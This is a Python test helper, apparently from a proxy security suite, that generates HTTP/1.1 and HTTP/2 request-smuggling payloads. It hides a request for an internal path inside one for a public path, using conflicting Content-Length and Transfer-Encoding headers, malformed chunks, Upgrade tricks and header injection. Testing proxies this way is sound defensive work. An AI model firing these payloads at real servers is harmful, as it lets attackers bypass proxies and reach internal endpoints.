"""Requests with another one inside, for an emitter to find that a proxy has taken for something else.

The outer one is for a public path. Where two readers disagree about its end, the second begins where they do.
"""

import itertools
from collections.abc import Iterator

from tests.disguises import HOST, NUMBER, request
from tests.stubs import MARK
from tests.wire import http2

_LENGTHS = (
    "0", "00", "+0", "-0", "0x0", "0,0", "0, {n}", "{n}, 0", "{n},{n}", "0 {n}", "0\x0b", "0\x00", "0.0", "", " ",
    "1e1", "{n}_", "{n};0", "18446744073709551616", "9223372036854775808", "4294967296", "-1",
)  # fmt: skip
_LENGTH_HEADERS = (
    "Content-Length : {n}", "Content-Length\t: {n}", " Content-Length: {n}", "\tContent-Length: {n}",
    "Content_Length: {n}", "Content-Length:\r\n {n}", "Content-Length:\x0b{n}",
    "Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nContent-Length: 0",
    "X: y\nContent-Length: {n}", "X: y\rContent-Length: {n}", "X\x00: y\r\nContent-Length: {n}",
    "Content-Length: {n}\r\nConnection: Content-Length", "Content-Length: {n}\r\nExpect: 100-continue",
    "Content-Length: {n}\r\nExpect: 100-CONTINUE, x",
    "Content-Length: {n}\r\nUpgrade: websocket\r\nConnection: Upgrade", "Content-Length{n}",
    "X-A: b\r\n: y\r\nContent-Length: {n}", "\x85Content-Length: {n}", "Content-Length\xa0: {n}",
)  # fmt: skip
_CODINGS = (
    "Transfer-Encoding: chunked", "Transfer-Encoding:chunked", "Transfer-Encoding:\tchunked",
    "Transfer-Encoding : chunked", " Transfer-Encoding: chunked", "Transfer-Encoding: xchunked",
    "Transfer-Encoding: CHUNKED", "transfer-encoding: chunked", "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked", "Transfer-Encoding: identity",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked;q=1", "Transfer-Encoding:\x0bchunked",
    "Transfer-Encoding:\x00chunked", "Transfer-Encoding: chunked\x00", 'Transfer-Encoding: "chunked"',
    "Transfer-Encoding:\r\n chunked", "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked", "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    "Transfer-Encoding:\xa0chunked", "Transfer-Encoding: chun\x00ked", "TE: chunked",
)  # fmt: skip
_LAST_CHUNKS = (
    "0\r\n\r\n", "0;x\r\n\r\n", '0;x="\r\n\r\n', "0;\n\r\n", "0;x\n\r\n\r\n", "0\n\n", "0\r\r",
    "00000000000000000000\r\n\r\n", "0x0\r\n\r\n", "+0\r\n\r\n", "-0\r\n\r\n", " 0\r\n\r\n", "0 \r\n\r\n",
    "0\t\r\n\r\n", "\r\n\r\n", "g\r\n\r\n", "0_\r\n\r\n", "1\r\n\r\n0\r\n\r\n", "0\r\nContent-Length: 5\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\nx\r\n\r\n", "0\r\n x: y\r\n\r\n", "0\r\nX: y\n\n",
    "10000000000000000\r\n\r\n", "ffffffffffffffff\r\n\r\n", "fffffffffffffffff\r\n\r\n", "1;\r\nx\r\n0\r\n\r\n",
    "1\r\nxX0\r\n\r\n", "1\r\nx0\r\n\r\n",
)  # fmt: skip
_KEY = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
_UPGRADES = (
    f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n{_KEY}",
    f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n{_KEY}",
    "Upgrade: websocket\r\nConnection: Upgrade, close",
    "Upgrade: websocket, h2c\r\nConnection: Upgrade",
    "Upgrade: WebSocket\r\nConnection: keep-alive, uPgRaDe\r\nSec-WebSocket-Version: 13",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "Upgrade: h2c\r\nConnection: Upgrade\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "Upgrade: TLS/1.3\r\nConnection: Upgrade",
    "Upgrade: emitter\r\nConnection: Upgrade",
)
_METHODS = ("GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "PATCH", "BREW")


def smuggles(outer: str, internal: str) -> Iterator[bytes]:
    """Yield requests for a public path with one for an internal path inside."""
    inner = _inner(internal)
    n = len(inner)
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (n, inner)

    def post(body: bytes, *lines: str, method: str = "POST") -> bytes:
        return request(outer, *lines, method=method) + body

    for length in _LENGTHS:
        yield post(inner, f"Content-Length: {length.format(n=n)}")
    for header in _LENGTH_HEADERS:
        yield post(inner, header.format(n=n))
    for method in _METHODS:
        yield post(inner, method=method)
        yield post(inner, f"Content-Length: {n}", method=method)
    for coding in _CODINGS:
        yield post(b"0\r\n\r\n" + inner, f"Content-Length: {n + 5}", coding)
        yield post(chunk, "Content-Length: 4", coding)
        yield post(chunk, coding, "Content-Length: 0")
        yield post(chunk, coding)
    for last in _LAST_CHUNKS:
        yield post(last.encode("latin-1") + inner, "Transfer-Encoding: chunked")
    for upgrade, method in itertools.product(_UPGRADES, ("GET", "POST")):
        yield post(inner, upgrade, method=method)
    plain = post(inner, f"Content-Length: {n}")
    yield plain.replace(b"HTTP/1.1", b"HTTP/1.0", 1)
    yield post(chunk, "Transfer-Encoding: chunked").replace(b"HTTP/1.1", b"HTTP/1.0", 1)
    yield plain.replace(b"\r\n", b"\n")
    yield plain.replace(b"\r\n", b"\r")
    yield plain.replace(b"\r\n", b"\r\n x: y\r\n", 1)
    yield b"\r\n\r\n" + plain
    yield b"".join((b"GET ", outer.encode(), b"\r\n", inner))


def smuggles_over_http2(outer: str, internal: str) -> Iterator[bytes]:
    """Yield such requests as HTTP/2, where a proxy writes the one for the emitter anew."""
    inner = _inner(internal)
    text = inner.decode()
    second = f" HTTP/1.1\r\nHost: x\r\n\r\n{text}"
    asked = {":method": "GET", ":scheme": "http", ":authority": HOST, ":path": outer}
    marked = (MARK, NUMBER)
    replaced = (
        (":path", outer + second),
        (":path", f"{outer} {internal}"),
        (":path", f"{outer}\t{internal}"),
        (":path", f"{outer}\r\n{internal}"),
        (":path", f"http://x{internal}"),
        (":path", f"{outer}/..{internal}"),
        (":path", f"{outer}/%2e%2e{internal}"),
        (":path", internal.removeprefix("/")),
        (":path", f"{outer}\0{internal}"),
        (":path", f"{outer}#{internal}"),
        (":path", ""),
        (":path", "*"),
        (":method", f"GET {internal} HTTP/1.1\r\nHost: x\r\n{MARK}: {NUMBER}\r\n\r\nGET"),
        (":method", f"POST {internal}"),
        (":method", "CONNECT"),
        (":scheme", f"http://x{internal}?"),
        (":scheme", f"http\r\n\r\n{text}"),
        (":authority", f"x{internal}"),
        (":authority", f"x\r\n\r\n{text}"),
        (":authority", f"x@emitter{internal}?"),
        (":protocol", "websocket"),
    )
    added = (
        ("content-length", "0"),
        ("content-length", str(len(inner) + 9)),
        ("transfer-encoding", "chunked"),
        ("connection", "transfer-encoding"),
        ("x", f"y\r\ntransfer-encoding: chunked\r\n\r\n{text}"),
        ("x", f"y\r\n\r\n{text}"),
        ("x", f"y\n\n{text}"),
        (f"x: y\r\n\r\n{text}", "z"),
        ("x:y\r\ntransfer-encoding", "chunked"),
        ("transfer-encoding ", "chunked"),
        ("Transfer-Encoding", "chunked"),
        ("host", "emitter"),
        ("upgrade", "websocket"),
        (":path", internal),
    )
    for name, value in replaced:
        yield http2([*{**asked, name: value}.items(), marked])
    for field, body in itertools.product(added, (inner, b"0\r\n\r\n" + inner)):
        yield http2([*{**asked, ":method": "POST"}.items(), marked, field], body)


def _inner(internal: str) -> bytes:
    return request(internal, "Content-Length: 2", method="POST") + b"{}"
